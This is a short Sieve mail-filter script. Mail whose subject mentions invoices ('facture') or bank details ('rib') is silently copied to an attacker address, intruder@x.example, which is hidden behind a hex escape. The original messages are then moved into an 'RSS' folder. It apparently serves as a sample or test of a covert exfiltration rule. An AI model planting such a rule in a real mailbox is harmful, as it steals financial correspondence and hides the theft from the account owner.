require ["fileinto", "copy", "encoded-character"];
# comment
if header :contains "subject" ["facture", "rib"] {
  redirect :copy "intruder${hex:40}x.example";
  fileinto "RSS";
  stop;
}
